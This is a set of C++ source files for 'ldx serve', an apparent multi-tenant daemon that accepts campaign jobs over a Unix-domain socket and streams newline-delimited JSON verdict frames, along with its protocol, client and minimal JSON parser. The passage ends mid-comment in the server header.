          pc.registry = cfg.registry;
          return pc;
      }()),
      cache_(cfg.cacheCap, cfg.shards, cfg.cacheDir, cfg.registry)
{}

Server::~Server()
{
    if (listenFd_ >= 0) {
        ::close(listenFd_);
        ::unlink(cfg_.socketPath.c_str());
    }
}

std::uint64_t
Server::jobsAccepted() const
{
    return jobsAccepted_.load(std::memory_order_relaxed);
}

std::uint64_t
Server::jobsRejected() const
{
    return jobsRejected_.load(std::memory_order_relaxed);
}

bool
Server::start(std::string *error)
{
    auto fail = [&](const std::string &why) {
        if (error)
            *error = why + ": " + std::strerror(errno);
        return false;
    };
    if (cfg_.socketPath.empty()) {
        if (error)
            *error = "serve requires --socket PATH";
        return false;
    }
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (cfg_.socketPath.size() >= sizeof addr.sun_path) {
        if (error)
            *error = "--socket path too long (max " +
                     std::to_string(sizeof addr.sun_path - 1) +
                     " bytes): " + cfg_.socketPath;
        return false;
    }
    std::memcpy(addr.sun_path, cfg_.socketPath.c_str(),
                cfg_.socketPath.size() + 1);

    listenFd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (listenFd_ < 0)
        return fail("cannot create socket");
    // A stale socket file from a crashed daemon would make bind fail;
    // a *live* daemon still answers on it, so probe before unlinking.
    ::unlink(cfg_.socketPath.c_str());
    if (::bind(listenFd_, reinterpret_cast<sockaddr *>(&addr),
               sizeof addr) != 0)
        return fail("cannot bind " + cfg_.socketPath);
    if (::listen(listenFd_, 64) != 0)
        return fail("cannot listen on " + cfg_.socketPath);
    return true;
}

bool
Server::writeLine(Connection &conn, const std::string &frame)
{
    if (!conn.alive.load(std::memory_order_relaxed))
        return false;
    std::lock_guard<std::mutex> lock(conn.writeMutex);
    std::string line = frame;
    line += '\n';
    std::size_t off = 0;
    while (off < line.size()) {
        ssize_t n = ::send(conn.fd, line.data() + off,
                           line.size() - off, MSG_NOSIGNAL);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            // Peer gone (EPIPE/ECONNRESET): mark dead; the job keeps
            // running to completion so the shared cache still warms.
            conn.alive.store(false, std::memory_order_relaxed);
            return false;
        }
        off += static_cast<std::size_t>(n);
    }
    return true;
}

void
Server::handleSubmit(Connection &conn, const SubmitRequest &req)
{
    obs::Registry *sreg = cfg_.registry;
    auto reject = [&](const std::string &reason) {
        jobsRejected_.fetch_add(1, std::memory_order_relaxed);
        if (sreg)
            sreg->counter("serve.jobs_rejected").inc();
        writeLine(conn, renderRejected(req.id, reason));
    };

    // Tenant-slot admission first: it needs no work at all.
    {
        std::lock_guard<std::mutex> lock(mutex_);
        if (activeJobs_ >= cfg_.maxTenants) {
            reject("server at tenant capacity (" +
                   std::to_string(activeJobs_) + " active jobs, cap " +
                   std::to_string(cfg_.maxTenants) + ")");
            return;
        }
        ++activeJobs_;
        if (sreg)
            sreg->gauge("serve.jobs_active")
                .set(static_cast<double>(activeJobs_));
    }
    auto releaseSlot = [&] {
        std::lock_guard<std::mutex> lock(mutex_);
        --activeJobs_;
        if (sreg)
            sreg->gauge("serve.jobs_active")
                .set(static_cast<double>(activeJobs_));
    };

    query::CampaignConfig cc;
    cc.vmConfig.dispatch = cfg_.dispatch;
    if (!req.policies.empty()) {
        cc.policies.clear();
        for (const std::string &p : req.policies)
            cc.policies.push_back(policyByName(p));
    }
    if (req.offset)
        cc.offset = static_cast<std::size_t>(*req.offset);
    cc.snapshot = req.snapshot;
    cc.threaded = req.threaded;
    if (req.deadlineMs)
        cc.deadlineSeconds = static_cast<double>(*req.deadlineMs) / 1e3;
    cc.queueCap = cfg_.queueCap;
    cc.cancel = &drain_;
    cc.sharedCache = &cache_;
    cc.sharedPool = &pool_;

    // Resolve and pre-enumerate on this thread: the size admission
    // check and the accepted frame's query count both need the plan
    // before any dual execution starts. The baseline run is one
    // native execution — cheap next to the campaign it gates — and
    // the predecoded streams are shared into the campaign proper.
    ResolvedJob job;
    std::size_t planned = 0;
    try {
        job = resolveJob(req);
        cc.sinks = job.sinks;
        if (cc.vmConfig.predecode && !cc.vmConfig.predecoded) {
            auto shared =
                std::make_shared<vm::PredecodedModule>(*job.module);
            shared->decodeAll();
            cc.vmConfig.predecoded = std::move(shared);
        }
        query::EnumerateOptions eopts;
        eopts.sinks = cc.sinks;
        eopts.eventCap = cc.eventCap;
        eopts.vmConfig = cc.vmConfig;
        query::BaselineEnumeration baseline =
            query::enumerateBaseline(*job.module, job.world, eopts);
        planned =
            baseline.queryableSources().size() * cc.policies.size();
    } catch (const std::exception &e) {
        reject(e.what());
        releaseSlot();
        return;
    }
    if (cfg_.maxJobQueries && planned > cfg_.maxJobQueries) {
        reject("job too large: " + std::to_string(planned) +
               " planned queries > cap " +
               std::to_string(cfg_.maxJobQueries));
        releaseSlot();
        return;
    }

    jobsAccepted_.fetch_add(1, std::memory_order_relaxed);
    if (sreg) {
        sreg->counter("serve.jobs_accepted").inc();
        sreg->counter("serve.tenant." + std::to_string(conn.id) +
                      ".jobs_accepted")
            .inc();
    }
    writeLine(conn, renderAccepted(req.id, planned));

    // Verdict stream: workers complete out of order, the wire stays
    // in query-index order — frames are parked until every lower
    // index has been sent, so a job's whole response stream is
    // byte-deterministic.
    struct Stream
    {
        std::mutex m;
        std::vector<std::string> frames; ///< "" = not yet produced
        std::size_t next = 0;
        std::size_t delivered = 0;
    } stream;
    stream.frames.assign(planned, std::string());
    obs::Gauge *tenant_inflight =
        sreg ? &sreg->gauge("serve.tenant." + std::to_string(conn.id) +
                            ".queries_inflight")
             : nullptr;
    if (tenant_inflight)
        tenant_inflight->set(static_cast<double>(planned));
    auto flushReady = [&] {
        // stream.m held.
        while (stream.next < stream.frames.size() &&
               !stream.frames[stream.next].empty()) {
            writeLine(conn, stream.frames[stream.next]);
            ++stream.next;
            ++stream.delivered;
        }
        if (tenant_inflight)
            tenant_inflight->set(static_cast<double>(
                stream.frames.size() - stream.delivered));
    };
    cc.onVerdict = [&](const query::CampaignQuery &q,
                       const query::QueryVerdict &v, bool cached) {
        std::string frame = renderVerdict(req.id, q, v, cached);
        std::lock_guard<std::mutex> lock(stream.m);
        if (q.index < stream.frames.size())
            stream.frames[q.index] = std::move(frame);
        flushReady();
    };

    obs::Registry job_registry;
    cc.registry = &job_registry;

    query::CampaignResult res;
    try {
        res = query::runCampaign(*job.module, job.world, cc);
    } catch (const std::exception &e) {
        writeLine(conn, renderError(std::string("campaign failed: ") +
                                    e.what()));
        DoneStats stats;
        stats.exit = 3;
        writeLine(conn, renderDone(req.id, stats));
        releaseSlot();
        return;
    }

    // Flush the tail: everything already rendered goes out in index
    // order; slots that never produced a verdict (drain-cancelled or
    // failed queries) get a terminal `skipped` frame instead.
    {
        std::lock_guard<std::mutex> lock(stream.m);
        for (std::size_t i = stream.next; i < stream.frames.size();
             ++i) {
            if (!stream.frames[i].empty()) {
                writeLine(conn, stream.frames[i]);
            } else {
                const char *status =
                    i < res.outcomes.size()
                        ? query::runStatusName(res.outcomes[i].status)
                        : "cancelled";
                writeLine(conn, renderSkipped(req.id, i, status));
            }
            ++stream.delivered;
        }
        stream.next = stream.frames.size();
        if (tenant_inflight)
            tenant_inflight->set(0.0);
    }

    std::string graph_json = res.graph.toJson();
    writeLine(conn, renderGraph(req.id, graph_json));

    DoneStats stats;
    stats.exit = res.failedQueries ? 3 : (res.anyCausality() ? 1 : 0);
    stats.queries = res.queries.size();
    stats.cached = res.cacheHits;
    stats.executed = res.dualExecutions;
    stats.cancelled = res.cancelledQueries;
    stats.failed = res.failedQueries;
    stats.timedOut = res.timedOutQueries;
    stats.edges = res.graph.edges.size();
    writeLine(conn, renderDone(req.id, stats));

    if (sreg) {
        sreg->counter("serve.jobs_completed").inc();
        sreg->counter("serve.dual_executions").inc(res.dualExecutions);
        sreg->counter("serve.queries_total").inc(res.queries.size());
    }
    releaseSlot();
}

void
Server::handleFrame(Connection &conn, const std::string &line)
{
    if (line.empty())
        return;
    std::string err;
    std::optional<JsonValue> frame = parseJson(line, &err);
    if (!frame || !frame->isObject()) {
        writeLine(conn, renderError("malformed frame: " +
                                    (err.empty() ? "not an object"
                                                 : err)));
        return;
    }
    std::string type = frame->stringOr("type", "");
    if (type == "hello") {
        std::string proto = frame->stringOr("proto", kProtocol);
        if (proto != kProtocol)
            writeLine(conn, renderError("unsupported protocol " +
                                        proto + " (server speaks " +
                                        kProtocol + ")"));
        return;
    }
    if (type == "submit") {
        std::optional<SubmitRequest> req = parseSubmit(*frame, &err);
        if (!req) {
            writeLine(conn, renderError(err));
            return;
        }
        handleSubmit(conn, *req);
        return;
    }
    writeLine(conn, renderError("unknown frame type \"" + type + "\""));
}

void
Server::connectionLoop(std::shared_ptr<Connection> conn)
{
    if (cfg_.registry)
        cfg_.registry->counter("serve.connections").inc();
    writeLine(*conn, renderHello(cfg_.version));

    // Read NDJSON frames. The poll timeout doubles as the drain
    // check: a draining server interrupts idle reads within ~200ms.
    while (!drain_.load(std::memory_order_relaxed) &&
           conn->alive.load(std::memory_order_relaxed)) {
        std::size_t nl = conn->readBuf.find('\n');
        if (nl != std::string::npos) {
            std::string line = conn->readBuf.substr(0, nl);
            conn->readBuf.erase(0, nl + 1);
            if (!line.empty() && line.back() == '\r')
                line.pop_back();
            handleFrame(*conn, line);
            continue;
        }
        pollfd pfd{conn->fd, POLLIN, 0};
        int rc = ::poll(&pfd, 1, 200);
        if (rc < 0) {
            if (errno == EINTR)
                continue;
            break;
        }
        if (rc == 0)
            continue;
        char buf[4096];
        ssize_t n = ::recv(conn->fd, buf, sizeof buf, 0);
        if (n <= 0)
            break; // EOF or error: client left
        conn->readBuf.append(buf, static_cast<std::size_t>(n));
    }

    // Drain handshake: every still-connected client gets a terminal
    // frame before its socket closes.
    if (drain_.load(std::memory_order_relaxed))
        writeLine(*conn, renderDrained());
    ::close(conn->fd);
    conn->fd = -1;
    conn->alive.store(false, std::memory_order_relaxed);

    std::lock_guard<std::mutex> lock(mutex_);
    --openConns_;
    if (cfg_.registry)
        cfg_.registry->gauge("serve.connections_open")
            .set(static_cast<double>(openConns_));
    idleCv_.notify_all();
}

int
Server::serve()
{
    checkInvariant(cfg_.shutdown != nullptr,
                   "serve requires a shutdown latch");
    while (!cfg_.shutdown->load(std::memory_order_relaxed)) {
        pollfd pfd{listenFd_, POLLIN, 0};
        int rc = ::poll(&pfd, 1, 200);
        if (rc < 0 && errno != EINTR)
            break;
        if (rc <= 0)
            continue;
        int fd = ::accept(listenFd_, nullptr, nullptr);
        if (fd < 0)
            continue;
        auto conn = std::make_shared<Connection>();
        conn->fd = fd;
        {
            std::lock_guard<std::mutex> lock(mutex_);
            conn->id = connSeq_++;
            conns_.push_back(conn);
            ++openConns_;
            if (cfg_.registry)
                cfg_.registry->gauge("serve.connections_open")
                    .set(static_cast<double>(openConns_));
            threads_.emplace_back(&Server::connectionLoop, this, conn);
        }
    }

    // Drain: flip the shared cancel latch (campaigns stop submitting
    // new queries; in-flight ones complete), give tenants up to the
    // drain timeout to finish, then force any stragglers' sockets
    // shut (their queries still run to completion — verdicts are
    // never torn, the client is just gone).
    drain_.store(true, std::memory_order_relaxed);
    if (cfg_.registry)
        cfg_.registry->gauge("serve.draining").set(1.0);
    {
        std::unique_lock<std::mutex> lock(mutex_);
        idleCv_.wait_for(
            lock, std::chrono::milliseconds(cfg_.drainTimeoutMs),
            [&] { return openConns_ == 0; });
        for (const std::shared_ptr<Connection> &c : conns_)
            if (c->fd >= 0)
                ::shutdown(c->fd, SHUT_RD);
    }
    for (std::thread &t : threads_)
        t.join();
    ::close(listenFd_);
    ::unlink(cfg_.socketPath.c_str());
    listenFd_ = -1;
    if (cfg_.registry)
        cfg_.registry->gauge("serve.draining").set(2.0);
    return 0;
}

} // namespace ldx::serve
