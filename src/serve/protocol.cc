#include "serve/protocol.h"

#include "obs/json.h"

namespace ldx::serve {

namespace {

using obs::jsonString;

/** Validate a policy name against ldx/mutation.h. */
bool
knownPolicy(const std::string &name)
{
    return name == "off-by-one" || name == "zero" ||
           name == "bit-flip" || name == "random";
}

} // namespace

std::optional<SubmitRequest>
parseSubmit(const JsonValue &frame, std::string *error)
{
    auto fail = [&](const std::string &why) {
        if (error)
            *error = why;
        return std::nullopt;
    };

    SubmitRequest req;
    req.id = frame.stringOr("id", "");
    if (req.id.empty())
        return fail("submit frame needs a non-empty \"id\"");
    req.workload = frame.stringOr("workload", "");
    req.source = frame.stringOr("source", "");
    if (req.workload.empty() == req.source.empty())
        return fail("submit frame needs exactly one of \"workload\" "
                    "or \"source\"");

    for (const char *map : {"env", "files"}) {
        const JsonValue *obj = frame.find(map);
        if (!obj)
            continue;
        if (!obj->isObject())
            return fail(std::string("\"") + map +
                        "\" must be an object of strings");
        for (const auto &[k, v] : obj->members) {
            if (!v.isString())
                return fail(std::string("\"") + map +
                            "\" values must be strings");
            (map[0] == 'e' ? req.env : req.files)[k] = v.str;
        }
    }

    if (const JsonValue *pol = frame.find("policies")) {
        if (!pol->isArray())
            return fail("\"policies\" must be an array of names");
        for (const JsonValue &p : pol->items) {
            if (!p.isString() || !knownPolicy(p.str))
                return fail("unknown policy " +
                            (p.isString() ? p.str : "<non-string>"));
            req.policies.push_back(p.str);
        }
        if (req.policies.empty())
            return fail("\"policies\" must not be empty");
    }

    if (frame.find("offset"))
        req.offset = frame.uintOr("offset", 0);
    req.snapshot = frame.boolOr("snapshot", false);
    req.threaded = frame.boolOr("threaded", false);
    if (frame.find("deadline_ms")) {
        std::uint64_t d = frame.uintOr("deadline_ms", 0);
        if (d == 0)
            return fail("\"deadline_ms\" must be a positive integer");
        req.deadlineMs = d;
    }
    return req;
}

std::string
renderHello(const std::string &version)
{
    std::string out = "{\"type\":\"hello\",\"proto\":";
    out += jsonString(kProtocol);
    if (!version.empty()) {
        out += ",\"version\":";
        out += jsonString(version);
    }
    out += "}";
    return out;
}

std::string
renderSubmit(const SubmitRequest &req)
{
    std::string out = "{\"type\":\"submit\",\"id\":";
    out += jsonString(req.id);
    if (!req.workload.empty()) {
        out += ",\"workload\":";
        out += jsonString(req.workload);
    }
    if (!req.source.empty()) {
        out += ",\"source\":";
        out += jsonString(req.source);
    }
    auto appendMap =
        [&](const char *name,
            const std::map<std::string, std::string> &map) {
            if (map.empty())
                return;
            out += ",\"";
            out += name;
            out += "\":{";
            bool first = true;
            for (const auto &[k, v] : map) {
                if (!first)
                    out += ',';
                first = false;
                out += jsonString(k);
                out += ':';
                out += jsonString(v);
            }
            out += '}';
        };
    appendMap("env", req.env);
    appendMap("files", req.files);
    if (!req.policies.empty()) {
        out += ",\"policies\":[";
        for (std::size_t i = 0; i < req.policies.size(); ++i) {
            if (i)
                out += ',';
            out += jsonString(req.policies[i]);
        }
        out += ']';
    }
    if (req.offset) {
        out += ",\"offset\":";
        out += std::to_string(*req.offset);
    }
    if (req.snapshot)
        out += ",\"snapshot\":true";
    if (req.threaded)
        out += ",\"threaded\":true";
    if (req.deadlineMs) {
        out += ",\"deadline_ms\":";
        out += std::to_string(*req.deadlineMs);
    }
    out += "}";
    return out;
}

std::string
renderAccepted(const std::string &id, std::uint64_t queries)
{
    std::string out = "{\"type\":\"accepted\",\"id\":";
    out += jsonString(id);
    out += ",\"queries\":";
    out += std::to_string(queries);
    out += "}";
    return out;
}

std::string
renderRejected(const std::string &id, const std::string &reason)
{
    std::string out = "{\"type\":\"rejected\",\"id\":";
    out += jsonString(id);
    out += ",\"reason\":";
    out += jsonString(reason);
    out += "}";
    return out;
}

std::string
renderVerdict(const std::string &id, const query::CampaignQuery &q,
              const query::QueryVerdict &v, bool cached)
{
    std::string out = "{\"type\":\"verdict\",\"id\":";
    out += jsonString(id);
    out += ",\"query\":";
    out += std::to_string(q.index);
    out += ",\"source\":";
    out += jsonString(q.sourceId);
    out += ",\"policy\":";
    out += jsonString(core::mutationStrategyName(q.strategy));
    out += ",\"cached\":";
    out += cached ? "true" : "false";
    out += ",\"causality\":";
    out += v.causality ? "true" : "false";
    out += ",\"quality\":";
    out += jsonString(query::verdictQualityName(v.quality));
    out += ",\"edges\":";
    out += std::to_string(v.edges.size());
    out += "}";
    return out;
}

std::string
renderSkipped(const std::string &id, std::uint64_t index,
              const std::string &status)
{
    std::string out = "{\"type\":\"skipped\",\"id\":";
    out += jsonString(id);
    out += ",\"query\":";
    out += std::to_string(index);
    out += ",\"status\":";
    out += jsonString(status);
    out += "}";
    return out;
}

std::string
renderGraph(const std::string &id, const std::string &graphJson)
{
    std::string out = "{\"type\":\"graph\",\"id\":";
    out += jsonString(id);
    out += ",\"bytes\":";
    out += std::to_string(graphJson.size());
    out += ",\"json\":";
    out += jsonString(graphJson);
    out += "}";
    return out;
}

std::string
renderDone(const std::string &id, const DoneStats &stats)
{
    std::string out = "{\"type\":\"done\",\"id\":";
    out += jsonString(id);
    out += ",\"exit\":";
    out += std::to_string(stats.exit);
    out += ",\"queries\":";
    out += std::to_string(stats.queries);
    out += ",\"cached\":";
    out += std::to_string(stats.cached);
    out += ",\"executed\":";
    out += std::to_string(stats.executed);
    out += ",\"cancelled\":";
    out += std::to_string(stats.cancelled);
    out += ",\"failed\":";
    out += std::to_string(stats.failed);
    out += ",\"timed_out\":";
    out += std::to_string(stats.timedOut);
    out += ",\"edges\":";
    out += std::to_string(stats.edges);
    out += "}";
    return out;
}

std::string
renderDrained()
{
    return "{\"type\":\"drained\"}";
}

std::string
renderError(const std::string &message)
{
    std::string out = "{\"type\":\"error\",\"message\":";
    out += jsonString(message);
    out += "}";
    return out;
}

} // namespace ldx::serve
