#include "serve/client.h"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>
#include <ostream>

#include "serve/wire.h"

namespace ldx::serve {

namespace {

/** Blocking line-framed reader over a connected socket. */
struct LineReader
{
    int fd;
    std::string buf;

    /** Next line (without '\n'); false on EOF/error. */
    bool
    next(std::string &line)
    {
        for (;;) {
            std::size_t nl = buf.find('\n');
            if (nl != std::string::npos) {
                line = buf.substr(0, nl);
                buf.erase(0, nl + 1);
                if (!line.empty() && line.back() == '\r')
                    line.pop_back();
                return true;
            }
            char chunk[4096];
            ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
            if (n < 0 && errno == EINTR)
                continue;
            if (n <= 0)
                return false;
            buf.append(chunk, static_cast<std::size_t>(n));
        }
    }
};

bool
sendLine(int fd, const std::string &frame)
{
    std::string line = frame;
    line += '\n';
    std::size_t off = 0;
    while (off < line.size()) {
        ssize_t n = ::send(fd, line.data() + off, line.size() - off,
                           MSG_NOSIGNAL);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            return false;
        }
        off += static_cast<std::size_t>(n);
    }
    return true;
}

} // namespace

int
runSubmit(const SubmitOptions &opts, std::ostream &out,
          std::ostream &err)
{
    if (opts.socketPath.empty()) {
        err << "[ldx] submit requires --socket PATH\n";
        return 2;
    }
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (opts.socketPath.size() >= sizeof addr.sun_path) {
        err << "[ldx] --socket path too long: " << opts.socketPath
            << "\n";
        return 2;
    }
    std::memcpy(addr.sun_path, opts.socketPath.c_str(),
                opts.socketPath.size() + 1);
    int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) {
        err << "[ldx] cannot create socket: " << std::strerror(errno)
            << "\n";
        return 2;
    }
    if (::connect(fd, reinterpret_cast<sockaddr *>(&addr),
                  sizeof addr) != 0) {
        err << "[ldx] cannot connect to " << opts.socketPath << ": "
            << std::strerror(errno) << "\n";
        ::close(fd);
        return 2;
    }

    if (!sendLine(fd, renderHello(std::string())) ||
        !sendLine(fd, renderSubmit(opts.request))) {
        err << "[ldx] cannot send to " << opts.socketPath << ": "
            << std::strerror(errno) << "\n";
        ::close(fd);
        return 2;
    }

    LineReader reader{fd, {}};
    std::string line;
    std::string graph_json;
    bool have_graph = false;
    bool done = false;
    bool drained = false;
    int exit_code = 3;
    DoneStats stats;

    while (!done && reader.next(line)) {
        if (line.empty())
            continue;
        std::string perr;
        std::optional<JsonValue> frame = parseJson(line, &perr);
        if (!frame || !frame->isObject()) {
            err << "[ldx] malformed server frame: " << perr << "\n";
            ::close(fd);
            return 2;
        }
        std::string type = frame->stringOr("type", "");
        if (type == "hello") {
            std::string proto = frame->stringOr("proto", "");
            if (proto != kProtocol) {
                err << "[ldx] server speaks " << proto << ", not "
                    << kProtocol << "\n";
                ::close(fd);
                return 2;
            }
        } else if (type == "accepted") {
            out << "accepted: job " << opts.request.id << ", "
                << frame->uintOr("queries", 0) << " queries\n";
        } else if (type == "rejected") {
            err << "[ldx] job " << opts.request.id
                << " rejected: " << frame->stringOr("reason", "?")
                << "\n";
            ::close(fd);
            return 2;
        } else if (type == "verdict") {
            if (opts.stream)
                out << "verdict " << frame->uintOr("query", 0) << " "
                    << frame->stringOr("source", "?") << " ["
                    << frame->stringOr("policy", "?")
                    << "] causality="
                    << (frame->boolOr("causality", false) ? "yes"
                                                          : "no")
                    << " quality="
                    << frame->stringOr("quality", "?")
                    << (frame->boolOr("cached", false) ? " (cached)"
                                                       : "")
                    << "\n";
        } else if (type == "skipped") {
            if (opts.stream)
                out << "skipped " << frame->uintOr("query", 0) << " ("
                    << frame->stringOr("status", "?") << ")\n";
        } else if (type == "graph") {
            graph_json = frame->stringOr("json", "");
            have_graph = true;
        } else if (type == "done") {
            done = true;
            exit_code = static_cast<int>(frame->uintOr("exit", 3));
            stats.queries = frame->uintOr("queries", 0);
            stats.cached = frame->uintOr("cached", 0);
            stats.executed = frame->uintOr("executed", 0);
            stats.cancelled = frame->uintOr("cancelled", 0);
            stats.failed = frame->uintOr("failed", 0);
            stats.timedOut = frame->uintOr("timed_out", 0);
            stats.edges = frame->uintOr("edges", 0);
        } else if (type == "drained") {
            drained = true;
            break;
        } else if (type == "error") {
            err << "[ldx] server error: "
                << frame->stringOr("message", "?") << "\n";
            ::close(fd);
            return 2;
        }
    }
    ::close(fd);

    if (!done) {
        err << "[ldx] job " << opts.request.id
            << (drained ? " interrupted: server drained\n"
                        : " interrupted: connection closed\n");
        return 3;
    }

    // Mirror the offline `ldx campaign` summary line so scripts (and
    // the CI warm-path grep) treat both paths uniformly.
    out << "queries: " << stats.queries << " (" << stats.cached
        << " cached, " << stats.executed << " executed, "
        << stats.cancelled << " cancelled, " << stats.failed
        << " failed, " << stats.timedOut << " timed out)\n";
    out << "causality edges: " << stats.edges << "\n";

    if (!opts.graphOut.empty()) {
        if (!have_graph) {
            err << "[ldx] no graph frame received; not writing "
                << opts.graphOut << "\n";
            return 3;
        }
        std::ofstream f(opts.graphOut, std::ios::binary);
        f << graph_json;
        if (!f) {
            err << "[ldx] cannot write " << opts.graphOut << "\n";
            return 2;
        }
        out << "wrote causality graph: " << opts.graphOut << " ("
            << graph_json.size() << " bytes)\n";
    }
    return exit_code;
}

} // namespace ldx::serve
