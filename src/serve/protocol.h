/**
 * @file
 * `ldx-serve-v1` — the newline-delimited JSON framing protocol
 * between `ldx serve` and its clients (docs/SERVE.md "Protocol").
 *
 * Every frame is one JSON object on one line. Client -> server:
 *
 *   {"type":"hello","proto":"ldx-serve-v1"}
 *   {"type":"submit","id":"job-1","workload":"grep", ...}
 *
 * Server -> client (per job, in this order):
 *
 *   {"type":"hello","proto":"ldx-serve-v1","version":...}
 *   {"type":"accepted","id":...,"queries":N}          (or "rejected")
 *   {"type":"verdict","id":...,"query":i,...}  x N    (index order)
 *   {"type":"skipped","id":...,"query":i,"status":..} (drain only)
 *   {"type":"graph","id":...,"json":"<graph bytes>"}
 *   {"type":"done","id":...,"exit":E, ...stats}
 *   {"type":"drained"}                                (server drain)
 *
 * Frame rendering is deterministic (fixed member order, no
 * timestamps), which is what lets the CI smoke test byte-compare a
 * served graph against the offline `ldx campaign --graph-out`
 * artifact and a whole response stream against a replay.
 */
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "ldx/mutation.h"
#include "query/verdict.h"
#include "serve/wire.h"

namespace ldx::serve {

/** Protocol identifier carried by both hello frames. */
constexpr const char *kProtocol = "ldx-serve-v1";

/** One parsed `submit` frame. */
struct SubmitRequest
{
    std::string id; ///< client-chosen job id, echoed on every frame

    /** Built-in workload or promoted corpus entry name. Mutually
     *  exclusive with `source`. */
    std::string workload;

    /** Inline MiniC program text (compiled + instrumented server
     *  side); world built from `env`/`files`. */
    std::string source;

    std::map<std::string, std::string> env;
    std::map<std::string, std::string> files;

    /** Policy names (ldx/mutation.h); empty = campaign default. */
    std::vector<std::string> policies;

    std::optional<std::uint64_t> offset; ///< mutation byte offset
    bool snapshot = false;
    bool threaded = false;
    std::optional<std::uint64_t> deadlineMs;
};

/**
 * Parse a `submit` frame body. Returns nullopt and sets @p error on
 * a malformed request (missing id, neither/both of workload+source,
 * unknown policy name).
 */
std::optional<SubmitRequest> parseSubmit(const JsonValue &frame,
                                         std::string *error);

/** Render a client or server hello. @p version empty = client. */
std::string renderHello(const std::string &version);

/** Render a submit frame from @p req (the client side). */
std::string renderSubmit(const SubmitRequest &req);

std::string renderAccepted(const std::string &id,
                           std::uint64_t queries);
std::string renderRejected(const std::string &id,
                           const std::string &reason);

/** Per-query verdict frame (index order on the wire). */
std::string renderVerdict(const std::string &id,
                          const query::CampaignQuery &q,
                          const query::QueryVerdict &v, bool cached);

/** Terminal frame for a query that never produced a verdict. */
std::string renderSkipped(const std::string &id, std::uint64_t index,
                          const std::string &status);

/** The campaign graph, embedded verbatim as an escaped string. */
std::string renderGraph(const std::string &id,
                        const std::string &graphJson);

/** Job stats for the terminal done frame. */
struct DoneStats
{
    int exit = 0; ///< the offline `ldx campaign` exit code
    std::uint64_t queries = 0;
    std::uint64_t cached = 0;
    std::uint64_t executed = 0;
    std::uint64_t cancelled = 0;
    std::uint64_t failed = 0;
    std::uint64_t timedOut = 0;
    std::uint64_t edges = 0;
};

std::string renderDone(const std::string &id, const DoneStats &stats);

/** Terminal broadcast when the server drains (SIGINT). */
std::string renderDrained();

/** Protocol-level error report (frame could not be handled). */
std::string renderError(const std::string &message);

} // namespace ldx::serve
