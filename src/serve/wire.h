/**
 * @file
 * Minimal JSON value model + parser for the `ldx serve` wire
 * protocol (docs/SERVE.md). The rest of the repo only *writes* JSON
 * (obs/json.h); the service daemon is the first component that must
 * read it, so this is a deliberately small recursive-descent parser:
 * UTF-8 pass-through, \uXXXX decoding, a depth cap against hostile
 * nesting, and no allocation tricks. Not a general-purpose library —
 * just enough to parse one NDJSON frame per call.
 */
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <utility>
#include <vector>

namespace ldx::serve {

/** One parsed JSON value (a small tagged tree). */
struct JsonValue
{
    enum class Kind
    {
        Null,
        Bool,
        Number,
        String,
        Object,
        Array,
    };

    Kind kind = Kind::Null;
    bool boolean = false;
    double number = 0.0;
    std::string str;
    /** Object members in document order (duplicates kept; find()
     *  returns the first). */
    std::vector<std::pair<std::string, JsonValue>> members;
    std::vector<JsonValue> items;

    bool isObject() const { return kind == Kind::Object; }
    bool isArray() const { return kind == Kind::Array; }
    bool isString() const { return kind == Kind::String; }

    /** First member named @p key, or nullptr (objects only). */
    const JsonValue *find(const std::string &key) const;

    /** Member @p key as a string; @p fallback when absent/not one. */
    std::string stringOr(const std::string &key,
                         const std::string &fallback) const;

    /** Member @p key as a non-negative integer; @p fallback when
     *  absent, not a number, negative, or fractional. */
    std::uint64_t uintOr(const std::string &key,
                         std::uint64_t fallback) const;

    /** Member @p key as a bool; @p fallback when absent/not one. */
    bool boolOr(const std::string &key, bool fallback) const;
};

/**
 * Parse @p text as one JSON document. Trailing non-whitespace, bad
 * escapes, unterminated structures, and nesting deeper than 64
 * levels all fail; @p error (may be null) receives a short reason.
 */
std::optional<JsonValue> parseJson(const std::string &text,
                                   std::string *error = nullptr);

} // namespace ldx::serve
