/**
 * @file
 * `ldx serve` — the multi-tenant causality-inference daemon
 * (docs/SERVE.md).
 *
 * A long-running server on a local Unix-domain socket. Each
 * connection is one client; each accepted `submit` frame runs a full
 * campaign as one *tenant* of the process-wide machinery:
 *
 *  - one shared work-stealing pool (query::SharedPool) executes
 *    every tenant's dual executions with per-tenant fair dequeue,
 *  - one process-wide sharded verdict cache
 *    (query::ShardedResultCache) makes a repeat submission of any
 *    job — by any client — run zero dual executions,
 *  - admission control rejects jobs beyond `--max-tenants`
 *    concurrent campaigns or larger than `--max-job-queries`
 *    planned queries before any dual execution starts,
 *  - per-query verdicts stream back in query-index order while the
 *    campaign still runs, followed by the byte-exact graph that an
 *    offline `ldx campaign --graph-out` would have produced,
 *  - SIGINT drains gracefully: in-flight queries complete or are
 *    cancelled (never torn), every connected client receives a
 *    terminal `drained` frame, and the caller takes the exporter's
 *    final sample after serve() returns.
 */
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "obs/registry.h"
#include "query/cache.h"
#include "query/scheduler.h"
#include "vm/machine.h"

namespace ldx::serve {

/** Daemon configuration (CLI flags of `ldx serve`). */
struct ServeConfig
{
    /** Unix-domain socket path (short: sun_path is ~107 bytes). */
    std::string socketPath;

    /** Shared pool worker threads (>= 1). */
    int jobs = 1;

    /** Max concurrent campaigns; further submits are rejected. */
    std::size_t maxTenants = 4;

    /** Verdict-cache shards (clamped to the cache capacity). */
    std::size_t shards = 8;

    /** Per-tenant admission cap (max outstanding queries). */
    std::size_t queueCap = 256;

    /** Shared in-memory verdict-cache capacity (entries). */
    std::size_t cacheCap = 4096;

    /** Shared disk verdict-cache directory ("" = memory only). */
    std::string cacheDir;

    /** Reject jobs planning more queries than this (0 = no cap). */
    std::size_t maxJobQueries = 0;

    /** Drain: wait this long for tenants before forcing sockets
